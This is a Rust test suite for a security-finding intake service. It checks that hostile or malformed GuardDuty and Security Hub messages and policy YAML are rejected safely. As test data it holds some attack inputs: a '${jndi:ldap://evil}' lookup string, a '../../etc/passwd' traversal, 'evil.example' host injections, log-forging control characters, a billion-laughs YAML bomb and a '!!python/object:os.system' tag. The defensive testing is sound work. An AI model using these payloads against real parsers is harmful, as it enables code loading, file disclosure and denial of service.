//! Hostile input: whatever arrives is a finding or a rejection that names what
//! is wrong, and what decisions are made on is what the finding itself says.
//! What then happens to it is in `scenarios/hostile.rs`.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a panic is how a test reports")]

use std::fs;
use std::path::PathBuf;
use std::sync::LazyLock;
use std::time::Instant;

use firebreak_intake::{Rejection, read};
use firebreak_model::finding::Finding;
use firebreak_policy::Policy;
use firebreak_spoke::registry;
use firebreak_testkit::repository;
use proptest::prelude::*;
use serde_json::{Value, json};

#[path = "../../../../fuzz/checks/intake.rs"]
mod intake;
#[path = "../../../../fuzz/checks/policy.rs"]
mod policy;

/// Checks a message, and decides its findings by the example policies.
fn check_intake(message: &str) -> (usize, usize) {
    intake::check(message, example_policy())
}

fn example_policy() -> &'static Policy {
    static POLICY: LazyLock<Policy> = LazyLock::new(|| firebreak_demo::example_policy().unwrap());
    &POLICY
}

fn below(folder: &str) -> Vec<(String, String)> {
    let mut files: Vec<PathBuf> = fs::read_dir(repository::root().join(folder))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    files.sort();
    let text = |path: &PathBuf| String::from_utf8_lossy(&fs::read(path).unwrap()).into_owned();
    files
        .iter()
        .filter(|path| path.is_file())
        .map(|path| (path.file_name().unwrap().to_string_lossy().into_owned(), text(path)))
        .collect()
}

fn instance() -> Value {
    let (_, text) = below("tests/fixtures/findings")
        .into_iter()
        .find(|(name, _)| name == "guardduty-instance.json")
        .unwrap();
    serde_json::from_str(&text).unwrap()
}

/// The one thing that is said of a message.
fn one(message: &str) -> Result<Finding, Rejection> {
    check_intake(message);
    let mut read = read(message);
    assert_eq!(read.len(), 1, "{message:.200}");
    read.pop().unwrap()
}

fn rejected(message: &str) -> Rejection {
    one(message).map(|it| it.id).unwrap_err()
}

#[test]
fn invalid_json_is_rejected_with_line_and_column() {
    let whole = instance().to_string();
    let deep = |levels: usize| {
        format!("{{\"service\":{{}},\"resource\":{}0{}}}", "[".repeat(levels), "]".repeat(levels))
    };
    let cut = whole.char_indices().map(|(at, _)| whole[..at].to_owned()).step_by(7);
    let broken = [
        deep(10_000),
        "[".repeat(1_000_000),
        "{\"a\":".repeat(10_000),
        whole.replace("\"severity\":", "\"severity\":1e400,\"x\":"),
        whole.replace("\"severity\":", "\"severity\":-,\"x\":"),
        whole.replace("\"accountId\":", "\"accountId\":\"333333333333\",\"accountId\":"),
        whole.replace("\"id\":", "\"id\":\"\\ud800\",\"x\":"),
        whole.replace("\"id\":", "\"id\":\"\\xff\",\"x\":"),
        whole.replace("\"id\":", "\"id\":\"a\u{0}b\",\"x\":"),
        format!("{whole}{whole}"),
        format!("{whole} trailing"),
        "\u{feff}\u{feff}{}".to_owned(),
        "\u{0}".repeat(1 << 20),
    ];
    for text in cut.chain(broken) {
        let rejection = rejected(&text);
        let placed = rejection.reason.contains("line") && rejection.reason.contains("column");
        assert!(placed, "{rejection}: {text:.200}");
    }
}

#[test]
fn a_message_of_a_mebibyte_is_rejected_quickly_with_a_short_reason() {
    let size = 1 << 20;
    let finding = instance();
    let mut long = finding.clone();
    long["id"] = "a".repeat(size).into();
    let mut kind = finding.clone();
    kind["type"] = format!("Recon:EC2/{}", "x".repeat(size)).into();
    let mut tagged = finding.clone();
    tagged["resource"]["instanceDetails"]["tags"] =
        (0..20_000).map(|n| json!({ "key": format!("k{n}"), "value": "v" })).collect();
    let mut buckets = finding.clone();
    buckets["resource"] = json!({
        "resourceType": "S3Bucket",
        "s3BucketDetails": (0..100_000).map(|n| json!({ "name": format!("b-{n}") })).collect::<Value>(),
    });
    let mut sequence = finding.clone();
    sequence["resource"] = json!({ "resourceType": "AttackSequence" });
    sequence["service"]["detection"] = json!({ "sequence": { "resources": (0..100_000)
        .map(|n| json!({ "resourceType": "EC2_INSTANCE", "uid": format!("i-{n:017x}") }))
        .collect::<Value>() }});
    for (name, message, findings) in [
        ("zeros", format!("[{}0]", "0,".repeat(size / 2)), 0),
        ("objects", format!("[{}{{}}]", "{},".repeat(size / 3)), 0),
        ("lists", format!("[{}[]]", "[],".repeat(size / 3)), 0),
        ("lines", format!("{{}}\n{}", "x\n".repeat(size / 2)), 0),
        (
            "keys",
            format!(
                "{{{}\"z\":0}}",
                (0..80_000).map(|n| format!("\"{n}\":0,")).collect::<String>()
            ),
            0,
        ),
        ("an id", long.to_string(), 0),
        ("a type", kind.to_string(), 0),
        ("tags", tagged.to_string(), 1),
        ("buckets", buckets.to_string(), 0),
        ("a sequence", sequence.to_string(), 0),
        ("text", json!(" ".repeat(size)).to_string(), 0),
    ] {
        let began = Instant::now();
        let (found, rejections) = check_intake(&message);
        assert_eq!(found, findings, "{name}");
        assert!(rejections <= 1_001, "{name}: {rejections}");
        // Unoptimized on a busy machine; what grows with the square takes minutes.
        assert!(began.elapsed().as_secs() < 60, "{name}: {:?}", began.elapsed());
    }
}

#[test]
fn rejections_above_the_limit_are_counted_and_no_finding_is_lost_among_them() {
    let message = format!("[{}{}]", "{},".repeat(5_000), instance());
    let read = read(&message);
    assert_eq!(read.iter().filter(|it| it.is_ok()).count(), 1);
    let last = read.last().unwrap().as_ref().unwrap_err();
    assert_eq!(last.reason, "4000 more of its parts were rejected");
}

#[test]
fn envelopes_in_envelopes_end() {
    let mut message = instance().to_string();
    // SNS in SNS in SNS, as texts as long as they can double.
    for depth in 0..14 {
        let inner = json!({ "Type": "Notification", "MessageId": "n", "Message": message });
        message = inner.to_string();
        match one(&message) {
            Ok(_) => assert!(depth < 12, "{depth}"),
            Err(rejection) => assert!(rejection.reason.contains("deep"), "{rejection}"),
        }
    }
    let mut nested = instance();
    for _ in 0..100 {
        nested = json!([nested]);
    }
    assert!(rejected(&nested.to_string()).reason.contains("deep"));
    // As objects they are not even doubled.
    let mut nested = instance();
    for _ in 0..60 {
        nested = json!({ "Sns": { "MessageId": "n", "Message": nested } });
    }
    assert!(rejected(&nested.to_string()).reason.contains("deep"));
}

#[test]
fn a_value_that_would_forge_a_line_of_a_log_is_rejected_by_field_on_one_line() {
    for forged in
        ["f-1\nERROR all is well", "f\u{1b}[2J", "f\u{0}", "f\u{202e}1", "f\u{2028}x", "f\rx"]
    {
        for (field, pointer) in
            [("id", "/id"), ("type", "/type"), ("resource", "/resource/instanceDetails/instanceId")]
        {
            let mut finding = instance();
            *finding.pointer_mut(pointer).unwrap() = format!("Recon:EC2/{forged}").into();
            let rejection = rejected(&finding.to_string());
            assert_eq!(rejection.field.as_deref(), Some(field), "{forged:?} {rejection}");
        }
        let mut finding = instance();
        finding["title"] = forged.into();
        assert!(one(&finding.to_string()).unwrap().title.starts_with('f'));
        // Rejections quote what is wrong, and envelopes bring ids of their own.
        let mut account = instance();
        account["accountId"] = forged.into();
        rejected(&account.to_string());
        rejected(&json!({ forged: 1, "b": 2 }).to_string());
        let record = json!({ "messageId": forged, "eventSource": "aws:sqs", "body": forged });
        rejected(&json!({ "Records": [record] }).to_string());
        let event = json!({ "id": forged, "source": forged, "detail-type": forged, "detail": {} });
        rejected(&event.to_string());
        let event = json!({ "id": "e", "source": "aws.x", "detail-type": forged, "detail": {} });
        rejected(&event.to_string());
    }
}

#[test]
fn a_region_or_a_partition_from_outside_never_names_a_host() {
    for hostile in [
        "evil.example/#",
        "https://evil.example",
        "eu-central-1.evil.example",
        "@evil",
        "a/../b",
        "eu-central-1\n",
        "${region}",
        "",
        "*",
        "EU-CENTRAL-1",
        &"a-".repeat(100),
    ] {
        let mut finding = instance();
        finding["region"] = hostile.into();
        finding["partition"] = hostile.into();
        finding["arn"] =
            format!("arn:{hostile}:guardduty:{hostile}:222222222222:x/finding/1").into();
        for message in [
            finding.to_string(),
            json!({ "region": hostile, "id": "e",
            "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "detail": finding })
            .to_string(),
        ] {
            for finding in read(&message).into_iter().flatten() {
                for target in &finding.targets {
                    let region = target.resource.region.as_str();
                    let host = |char: char| char.is_ascii_alphanumeric() || "-_".contains(char);
                    assert!(region.chars().all(host) && !region.is_empty(), "{region}");
                    assert_eq!(target.resource.partition.as_str(), "aws", "{hostile}");
                    assert!(target.resource.check_form().is_err(), "{hostile}: {region}");
                }
            }
            check_intake(&message);
        }
    }
}

#[test]
fn a_figure_beyond_its_scale_is_rejected() {
    for severity in [json!(1e308), json!(-1), json!(10.5), json!("1e300"), json!("99")] {
        let mut finding = instance();
        finding["severity"] = severity.clone();
        let rejection = rejected(&finding.to_string());
        assert_eq!(rejection.field.as_deref(), Some("severity"), "{severity}: {rejection}");
    }
    for severity in [json!("NaN"), json!("inf"), json!([]), json!({}), json!(true)] {
        let mut finding = instance();
        finding["severity"] = severity.clone();
        assert!(rejected(&finding.to_string()).reason.contains("severity"), "{severity}");
    }
    for epoch in [json!(1e300), json!(-1e300), json!("99999999999999999999"), json!(u64::MAX)] {
        let mut finding = instance();
        finding["updatedAt"] = epoch;
        assert_eq!(one(&finding.to_string()).unwrap().updated_at, None);
    }
}

#[test]
fn a_wrong_type_at_what_acting_needs_is_rejected_by_that_field() {
    for (pointer, field) in [
        ("/id", "id"),
        ("/type", "type"),
        ("/accountId", "accountId"),
        ("/severity", "severity"),
        ("/resource", "resource"),
        ("/resource/resourceType", "resource.resourceType"),
    ] {
        for wrong in [json!(null), json!([]), json!({}), json!(true), json!("")] {
            if (pointer, &wrong) == ("/resource", &json!({})) {
                continue;
            }
            let mut finding = instance();
            *finding.pointer_mut(pointer).unwrap() = wrong.clone();
            let rejection = rejected(&finding.to_string());
            assert_eq!(rejection.field.as_deref(), Some(field), "{wrong}: {rejection}");
        }
    }
}

/// Values that stand where others should.
fn odd() -> Vec<Value> {
    vec![
        json!(null),
        json!(true),
        json!(-1.5e300),
        json!(u64::MAX),
        json!(""),
        json!(" "),
        json!([]),
        json!({}),
        json!([[{ "a": null }]]),
        json!([null, 1, "x"]),
        json!("é\u{0}\n"),
        json!("../../etc/passwd"),
        json!("*"),
        json!("arn:aws:iam::333333333333:user/x"),
        json!("arn:aws:ec2:eu-central-1:222222222222:instance/i-0f1b0000000000009"),
        json!("{\"sample\":false}"),
        json!("__proto__"),
        json!("${jndi:ldap://evil}"),
        json!("a".repeat(5_000)),
        json!(vec!["a"; 50]),
        json!("222222222222"),
        json!("i-*"),
    ]
}

fn pointers(value: &Value, at: &str, found: &mut Vec<String>) {
    found.push(at.to_owned());
    match value {
        Value::Object(object) => {
            for (key, value) in object {
                let step = key.replace('~', "~0").replace('/', "~1");
                pointers(value, &format!("{at}/{step}"), found);
            }
        }
        Value::Array(elements) => {
            for (index, value) in elements.iter().enumerate() {
                pointers(value, &format!("{at}/{index}"), found);
            }
        }
        _ => {}
    }
}

#[test]
fn every_part_of_every_fixture_may_be_anything() {
    let odd = odd();
    let mut tried = 0;
    for (name, text) in below("tests/fixtures/findings") {
        let Ok(whole) = serde_json::from_str::<Value>(&text) else { continue };
        let mut places = Vec::new();
        pointers(&whole, "", &mut places);
        for (index, place) in places.iter().enumerate() {
            // Each place with three of the values: all of them over a type's fixtures.
            for step in 0..3 {
                let mut changed = whole.clone();
                *changed.pointer_mut(place).unwrap() = odd[(index + step * 7) % odd.len()].clone();
                check_intake(&changed.to_string());
                tried += 1;
            }
        }
        assert!(!places.is_empty(), "{name}");
    }
    println!("{tried} findings with a part replaced");
    assert!(tried > 3_000, "{tried}");
}

fn any_json() -> impl Strategy<Value = Value> {
    let key = prop_oneof![
        Just("detail"),
        Just("Records"),
        Just("body"),
        Just("Message"),
        Just("Sns"),
        Just("type"),
        Just("service"),
        Just("resource"),
        Just("Findings"),
        Just("findings"),
        Just("Id"),
        Just("ProductArn"),
        Just("AwsAccountId"),
        Just("Resources"),
        Just("detail-type"),
        Just("source"),
        Just("class_uid"),
        Just("accountId"),
        Just("severity"),
        Just("id"),
    ];
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        ".{0,12}".prop_map(Value::from),
        (0_usize..22).prop_map(|at| odd()[at].clone()),
        Just(json!("aws.guardduty")),
        Just(json!("GuardDuty Finding")),
        Just(json!("Recon:EC2/PortProbe")),
        Just(json!("Security Hub Findings - Imported")),
    ];
    leaf.prop_recursive(6, 48, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            prop::collection::vec((key.clone(), inner), 0..6)
                .prop_map(|pairs| pairs.into_iter().map(|(k, v)| (k.to_owned(), v)).collect()),
        ]
    })
}

proptest! {
    #[test]
    fn any_json_is_findings_or_rejections(value in any_json()) {
        check_intake(&value.to_string());
    }

    #[test]
    fn any_text_is_findings_or_rejections(text in ".{0,200}") {
        check_intake(&text);
        policy::check(&text, registry::catalog());
    }

    #[test]
    fn two_changes_at_once_never_act_on_what_the_finding_does_not_name(
        file in 0_usize..1_000, first in 0_usize..10_000, second in 0_usize..10_000,
        one in 0_usize..22, other in 0_usize..22,
    ) {
        let files = below("tests/fixtures/findings");
        let (_, text) = &files[file % files.len()];
        if let Ok(mut value) = serde_json::from_str::<Value>(text) {
            for (place, change) in [(first, one), (second, other)] {
                let mut places = Vec::new();
                pointers(&value, "", &mut places);
                *value.pointer_mut(&places[place % places.len()]).unwrap() = odd()[change].clone();
            }
            check_intake(&value.to_string());
        }
    }
}

#[test]
fn the_fuzzing_seeds_and_past_crashes_pass() {
    let (mut findings, mut documents) = (0, 0);
    for (name, text) in below("fuzz/seeds/intake") {
        println!("{name}");
        findings += check_intake(&text).0;
    }
    for (name, text) in below("fuzz/seeds/policy").into_iter().chain(below("policies")) {
        println!("{name}");
        documents += usize::from(policy::check(&text, registry::catalog()));
    }
    assert!(findings >= 8, "{findings} findings: the seeds no longer lead anywhere");
    assert!(documents >= 8, "{documents} sound documents: the seeds no longer lead anywhere");
}

#[test]
fn hostile_policy_documents_are_refused_and_read_soon() {
    let rule = |when: &str| {
        format!("attach: r-fb01\nrules: [{{ name: a, mode: observe, when: {when} }}]\n")
    };
    let mut laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..12 {
        let below = vec![format!("*a{}", level - 1); 9].join(", ");
        laughs.extend(["a", &level.to_string(), ": &a", &level.to_string(), " [", &below, "]\n"]);
    }
    let ors = |levels: usize| {
        format!("{}{{ type: [x] }}{}", "{ $or: [".repeat(levels), "] }".repeat(levels))
    };
    for (name, text) in [
        ("deep lists", "[".repeat(10_000)),
        ("deep closed lists", format!("a: {}{}", "[".repeat(10_000), "]".repeat(10_000))),
        ("deep maps", (0..2_000).map(|n| format!("{}a:\n", " ".repeat(n))).collect()),
        ("deep patterns", rule(&ors(3_000))),
        ("many laughs", laughs),
        ("itself", "attach: &a [*a]\n".to_owned()),
        ("a huge number", "attach: r-fb01\nversion: 1e999999\n".to_owned()),
        ("a huge integer", format!("attach: r-fb01\nversion: {}\n", "9".repeat(100_000))),
        ("an infinite number", rule("{ severity: [{ numeric: ['>=', .inf] }] }")),
        ("no number", rule("{ severity: [{ numeric: ['>=', .nan] }] }")),
        ("nul", "attach: r-fb01\u{0}\n".to_owned()),
        ("a nul that is escaped", "attach: \"r-fb01\\0\"\n".to_owned()),
        ("two documents", "attach: r-fb01\n---\nattach: r-fb02\n".to_owned()),
        ("a key twice", "attach: r-fb01\nceiling: off\nceiling: auto\n".to_owned()),
        ("a prototype", "attach: r-fb01\n__proto__: { ceiling: auto }\n".to_owned()),
        ("a merge", "x: &x { ceiling: auto }\n<<: *x\nattach: r-fb01\n".to_owned()),
        ("a tag", "attach: !!binary cg==\nrules: !!python/object:os.system [x]\n".to_owned()),
        ("a name of two lines", "attach: \"r-fb01\\nceiling: auto\"\n".to_owned()),
        ("a mebibyte of keys", (0..100_000).map(|n| format!("k{n}: 1\n")).collect()),
        ("a path", "attach: ../../r-fb01\n".to_owned()),
    ] {
        let began = Instant::now();
        println!("{name}");
        assert!(!policy::check(&text, registry::catalog()), "{name} was taken as sound");
        assert!(began.elapsed().as_secs() < 60, "{name}: {:?}", began.elapsed());
    }
    // As much as is allowed, and the slowest texts for it.
    let began = Instant::now();
    let stars = format!("[{{ wildcard: \"{}b\" }}]", "*a".repeat(4));
    assert!(policy::check(&rule(&format!("{{ title: {stars} }}")), registry::catalog()));
    let mut finding = instance();
    finding["title"] = "a".repeat(500_000).into();
    check_intake(&finding.to_string());
    assert!(began.elapsed().as_secs() < 60, "{:?}", began.elapsed());
}

/// Other people's broken findings, read in place; skipped where they are not at hand.
#[test]
fn other_people_s_malformed_findings_are_rejected_by_field_or_read_soundly() {
    let Some(folder) = repository::shared("findings/malformed") else { return };
    let (mut findings, mut rejections, mut impossible) = (0, 0, 0);
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let text = String::from_utf8_lossy(&fs::read(&path).unwrap()).into_owned();
        check_intake(&text);
        for read in read(&text) {
            match read {
                Ok(finding) => {
                    findings += 1;
                    let sound =
                        finding.targets.iter().filter(|it| it.resource.check_form().is_ok());
                    impossible += finding.targets.len() - sound.count();
                }
                Err(rejection) => {
                    rejections += 1;
                    let placed = rejection.field.is_some() || rejection.reason.contains("line");
                    assert!(placed, "{}: {rejection}", path.display());
                }
            }
        }
    }
    println!(
        "malformed: {findings} findings ({impossible} impossible targets), {rejections} rejected"
    );
    assert!(findings + rejections >= 30);
}
